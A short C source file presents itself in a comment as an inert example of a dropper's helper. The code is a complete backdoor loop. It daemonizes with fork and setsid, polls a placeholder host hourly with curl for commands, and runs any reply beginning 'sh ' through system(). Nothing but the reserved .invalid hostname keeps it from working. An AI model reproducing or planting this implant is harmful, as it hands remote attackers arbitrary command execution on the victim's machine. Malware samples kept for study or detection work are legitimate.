/* Inert: a helper as droppers bring it; its host is reserved, and it is never run. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
    char line[256];
    FILE *orders;

    if (fork() > 0)
        return 0;
    setsid();
    for (;;) {
        orders = popen("curl -fsS https://tasks.box-agent.invalid/next", "r");
        if (orders && fgets(line, sizeof(line), orders) && strncmp(line, "sh ", 3) == 0)
            (void)!system(line + 3);
        if (orders)
            pclose(orders);
        sleep(3600);
    }
}
